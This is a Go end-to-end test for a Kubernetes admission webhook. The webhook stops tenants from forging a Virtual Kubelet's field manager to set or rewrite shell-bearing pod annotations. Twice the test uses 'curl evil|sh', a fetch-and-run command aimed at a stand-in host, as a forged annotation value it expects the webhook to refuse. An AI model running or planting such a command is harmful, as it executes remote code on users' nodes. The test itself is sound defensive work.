package e2e

// interLink's mesh annotations in the "relay + webhooks" layout (issue 32): the relay
// believes the Virtual Kubelet wrote slurm-job.vk.io/pre-exec when the live pod's
// managedFields say so, and a field manager is only a name (mesh_test.go shows a tenant
// forging it on the relay alone). With the webhooks, a pod UPDATE that adds or changes
// the VK's annotations is judged as its requester: the VK's identity
// (--admission.vk-users) may make it, a tenant writing under the VK's field manager is
// refused, so the relay's attribution holds.

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/sar-bridge/sar-bridge/test/cluster"
)

const (
	meshWHNS     = "meshwh-e2e" // tenant team-a: erin (a user) and runner (the pods' ServiceAccount) offload
	meshWHVKNS   = "meshwh-vk"  // the Virtual Kubelet's ServiceAccount, vk
	meshWHNode   = "meshwh-vk-1"
	meshWHLabel  = "sar-bridge-e2e/mesh-webhook"
	meshWHConfig = "sar-bridge-e2e-mesh-webhook"
)

// meshWHFixtures: erin may create, read and patch pods in meshwh-e2e and offload them,
// as may runner; the ServiceAccount vk of meshwh-e2e may patch pods there but is no
// Virtual Kubelet; the Virtual Kubelet (meshwh-vk's vk) may read and patch pods anywhere.
const meshWHFixtures = `
apiVersion: v1
kind: Namespace
metadata:
  name: meshwh-e2e
  labels:
    interlink.io/tenant: team-a
    sar-bridge-e2e/mesh-webhook: "on"
---
apiVersion: v1
kind: Node
metadata:
  name: meshwh-vk-1
  labels:
    virtual-node.interlink/type: virtual-kubelet
spec:
  taints:
    - {key: virtual-node.interlink/no-schedule, value: "true", effect: NoSchedule}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: runner, namespace: meshwh-e2e}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: vk, namespace: meshwh-e2e}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: pod-writer, namespace: meshwh-e2e}
rules:
  - {apiGroups: [""], resources: ["pods"], verbs: ["create", "get", "patch"]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: pod-writer, namespace: meshwh-e2e}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: pod-writer}
subjects:
  - {kind: User, name: erin, apiGroup: rbac.authorization.k8s.io}
  - {kind: ServiceAccount, name: vk, namespace: meshwh-e2e}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: offload, namespace: meshwh-e2e}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: interlink-offloader}
subjects:
  - {kind: User, name: erin, apiGroup: rbac.authorization.k8s.io}
  - {kind: ServiceAccount, name: runner, namespace: meshwh-e2e}
---
apiVersion: v1
kind: Namespace
metadata:
  name: meshwh-vk
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: vk, namespace: meshwh-vk}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: meshwh-e2e-vk}
rules:
  - {apiGroups: [""], resources: ["pods"], verbs: ["get", "patch"]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: meshwh-e2e-vk}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: meshwh-e2e-vk}
subjects:
  - {kind: ServiceAccount, name: vk, namespace: meshwh-vk}
`

const (
	meshPreExec  = "slurm-job.vk.io/pre-exec"
	meshWstunnel = "interlink.eu/wstunnel-client-commands"
)

// meshWHRefusal is the webhook's refusal of key to subject, whose create of the pod so
// changed the default policy refuses for the key alone.
func meshWHRefusal(key, subject string) string {
	return fmt.Sprintf(`annotation %q of a pod may only be changed by the Virtual Kubelet (--admission.vk-users) or a subject data.interlink.restricted_annotations opens it to; %s may not (annotation %q is restricted: subject %q is not among its allowed users [] or groups [] (data.interlink.restricted_annotations))`,
		key, subject, key, subject)
}

// applyMeshWHFixtures applies the fixtures, removed at the end (the namespace stays), and
// waits until RBAC grants what the test relies on.
func applyMeshWHFixtures(t *testing.T) {
	t.Helper()
	ctx := context.Background()
	objs, err := suite.cluster.ApplyYAML(ctx, meshWHFixtures)
	if err != nil {
		t.Fatalf("fixtures: %v", err)
	}
	t.Cleanup(func() {
		_ = suite.cluster.Delete(context.Background(), cluster.Filter(objs, cluster.SkipKinds("Namespace")))
	})
	offload := authorizationv1.ResourceAttributes{Namespace: meshWHNS, Verb: "create", Group: "interlink.io", Resource: "pods"}
	patch := authorizationv1.ResourceAttributes{Namespace: meshWHNS, Verb: "patch", Resource: "pods"}
	for _, w := range []struct {
		user   string
		groups []string
		attrs  authorizationv1.ResourceAttributes
	}{
		{"erin", nil, offload},
		{"erin", nil, patch},
		{sa(meshWHNS, "runner"), cluster.ServiceAccountGroups(meshWHNS), offload},
		{sa(meshWHNS, "vk"), cluster.ServiceAccountGroups(meshWHNS), patch},
		{sa(meshWHVKNS, "vk"), cluster.ServiceAccountGroups(meshWHVKNS), patch},
	} {
		if err := suite.cluster.WaitForAccess(ctx, w.user, w.groups, w.attrs, true, 30*time.Second); err != nil {
			t.Fatalf("%s: %v", w.user, err)
		}
	}
}

// registerMeshWHWebhooks registers manifests/admission's configurations for this test's
// namespace only, pointed at the bridge, and waits until the API server calls them.
func registerMeshWHWebhooks(t *testing.T, bridgeURL string, caPEM []byte, probe func() error, refusal string) {
	t.Helper()
	registerScopedWebhooks(t, bridgeURL, caPEM, meshWHConfig, meshWHLabel)
	// The API server loads configurations asynchronously: wait for a refusal by the bridge.
	var last error
	if _, ok := poll(30*time.Second, 200*time.Millisecond, func() bool {
		last = probe()
		return last != nil && strings.Contains(last.Error(), refusal)
	}); !ok {
		t.Fatalf("the webhooks are not in force: last probe: %v", last)
	}
}

// kubectlAs runs kubectl in meshWHNS as u.
func kubectlAs(t *testing.T, u *admUser, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	base := []string{"--kubeconfig", u.kubeconfig, "--cache-dir", filepath.Join(filepath.Dir(u.kubeconfig), "cache"), "-n", meshWHNS}
	return runCmd(t, "", kubectlPath(t), append(base, args...)...)
}

// annotationsPatch is a merge patch setting annotations (a nil value removes one).
func annotationsPatch(t *testing.T, annotations map[string]any) string {
	t.Helper()
	b, err := json.Marshal(map[string]any{"metadata": map[string]any{"annotations": annotations}})
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// vkClient is the Virtual Kubelet: the ServiceAccount meshwh-vk/vk with interLink's
// User-Agent, so the API server names its field manager "vk", as interLink's image does.
func vkClient(t *testing.T) kubernetes.Interface {
	t.Helper()
	cfg, err := suite.cluster.ServiceAccountConfig(context.Background(), meshWHVKNS, "vk", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	cfg.UserAgent = "vk/v0.6.2 (linux/amd64) kubernetes/f632175"
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return cs
}

// storedMeshWHPod is pod name as the API server stores it.
func storedMeshWHPod(t *testing.T, name string) *corev1.Pod {
	t.Helper()
	p, err := suite.cluster.Client.CoreV1().Pods(meshWHNS).Get(context.Background(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatalf("reading pod %s: %v", name, err)
	}
	return p
}

func TestMeshWebhook(t *testing.T) {
	ctx := context.Background()
	applyMeshWHFixtures(t)
	applyAdmissionRBAC(t)
	erin := certUser(t, "erin")
	lookalike := saUser(t, meshWHNS, "vk") // the VK's name, in the tenant's namespace
	vkUser := sa(meshWHVKNS, "vk")

	ca, certFile, keyFile := webhookServing(t, "e2e-mesh-webhook CA")
	// One bridge in both roles: the relay interLink calls, and the webhooks.
	b, plugin, client, base := relayBridge(t, false, false,
		"--tls.server.cert-file="+certFile, "--tls.server.key-file="+keyFile, "--admission.vk-users="+vkUser)

	pod := func(name string, annotations map[string]string) *corev1.Pod {
		p := admPod(name, withNodeName(meshWHNode), withAnnotations(annotations))
		p.Namespace, p.Spec.ServiceAccountName = meshWHNS, "runner"
		return p
	}
	// The create webhook refuses erin's own pre-exec: the webhooks are in force.
	registerMeshWHWebhooks(t, b.HTTPSURL(), ca.CertPEM, func() error {
		_, err := erin.client.CoreV1().Pods(meshWHNS).Create(ctx, pod("probe", map[string]string{meshPreExec: e2eMeshScript}),
			metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, fmt.Sprintf("annotation %q is restricted: subject %q", meshPreExec, "erin"))

	const name = "meshwh-1"
	if stdout, stderr, code := erin.kubectlCreate(t, pod(name, nil)); code != 0 {
		t.Fatalf("erin creates %s: exit %d, stdout %q, stderr %q", name, code, stdout, stderr)
	}
	forged := annotationsPatch(t, map[string]any{meshPreExec: e2eMeshScript})
	patchAs := func(u *admUser, patch string, extra ...string) (string, string, int) {
		return kubectlAs(t, u, append([]string{"patch", "pod", name, "--type=merge", "-p", patch, "--field-manager=vk"}, extra...)...)
	}
	preExecOf := func() (string, bool) { v, ok := storedMeshWHPod(t, name).Annotations[meshPreExec]; return v, ok }

	t.Run("the tenant writing pre-exec under the VK's field manager is refused", func(t *testing.T) {
		_, stderr, code := patchAs(erin, forged)
		wantDenied(t, "erin, --field-manager=vk", stderr, code, podsHook, meshWHRefusal(meshPreExec, "erin"))
		_, stderr, code = patchAs(erin, forged, "--dry-run=server")
		wantDenied(t, "erin, --field-manager=vk, dry run", stderr, code, podsHook, meshWHRefusal(meshPreExec, "erin"))
		_, stderr, code = patchAs(erin, annotationsPatch(t, map[string]any{meshWstunnel: "curl evil|sh"}))
		wantDenied(t, "erin, wstunnel commands", stderr, code, podsHook, meshWHRefusal(meshWstunnel, "erin"))
		if v, ok := preExecOf(); ok {
			t.Errorf("the refused pre-exec was stored: %q", v)
		}
	})

	t.Run("a ServiceAccount named like the VK elsewhere is not the VK", func(t *testing.T) {
		// Names are exact: system:serviceaccount:meshwh-e2e:vk is not the listed
		// system:serviceaccount:meshwh-vk:vk. Its change is decided as its create of the
		// pod so changed, which it may not make on two counts.
		_, stderr, code := patchAs(lookalike, forged)
		wantDenied(t, "the lookalike", stderr, code, podsHook, fmt.Sprintf(`annotation %[1]q of a pod may only be changed by the Virtual Kubelet (--admission.vk-users) or a subject data.interlink.restricted_annotations opens it to; %[2]s may not (%[2]s may not create pods.interlink.io in namespace %[3]q; annotation %[1]q is restricted: subject %[2]q is not among its allowed users [] or groups [] (data.interlink.restricted_annotations))`,
			meshPreExec, lookalike.name, meshWHNS))
	})

	t.Run("the Virtual Kubelet's patch is allowed and the relay lets it through", func(t *testing.T) {
		patch := annotationsPatch(t, map[string]any{meshPreExec: e2eMeshScript})
		if _, err := vkClient(t).CoreV1().Pods(meshWHNS).Patch(ctx, name, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}); err != nil {
			t.Fatalf("the VK's patch: %v", err)
		}
		stored := storedMeshWHPod(t, name)
		if v := stored.Annotations[meshPreExec]; v != e2eMeshScript {
			t.Fatalf("pre-exec %q, want the VK's script", v)
		}
		// interLink sends the pod as stored; the relay finds the VK's field manager.
		body := []byte(mustMarshal(t, retrievedPodData{Pod: *stored, Containers: []retrievedContainer{{Name: "main"}}}))
		before := len(plugin.Requests())
		res, got := send(t, client, http.MethodPost, base+"/create", body)
		if forwarded := len(plugin.Requests()) - before; res.StatusCode != http.StatusOK || forwarded != 1 {
			t.Errorf("relay: HTTP %d %q, %d forwarded; want the create allowed (field managers %v)", res.StatusCode, got, forwarded, managers(*stored))
		}
	})

	t.Run("the tenant may not rewrite the VK's script but may remove it", func(t *testing.T) {
		evil := strings.Replace(e2eMeshScript, "echo mesh up", "curl evil|sh", 1)
		_, stderr, code := patchAs(erin, annotationsPatch(t, map[string]any{meshPreExec: evil}))
		wantDenied(t, "erin rewrites the VK's script", stderr, code, podsHook, meshWHRefusal(meshPreExec, "erin"))
		if v, _ := preExecOf(); v != e2eMeshScript {
			t.Errorf("pre-exec %q, want the VK's script kept", v)
		}
		// Other annotations are not judged.
		if stdout, stderr, code := patchAs(erin, annotationsPatch(t, map[string]any{"example.org/note": "x"})); code != 0 {
			t.Errorf("erin sets another annotation: exit %d, stdout %q, stderr %q", code, stdout, stderr)
		}
		// Removing shell adds none: allowed to anyone who may patch the pod.
		if stdout, stderr, code := patchAs(erin, annotationsPatch(t, map[string]any{meshPreExec: nil})); code != 0 || stdout != "pod/"+name+" patched\n" {
			t.Errorf("erin removes pre-exec: exit %d, stdout %q, stderr %q", code, stdout, stderr)
		}
		if v, ok := preExecOf(); ok {
			t.Errorf("pre-exec %q still there after its removal", v)
		}
	})
}
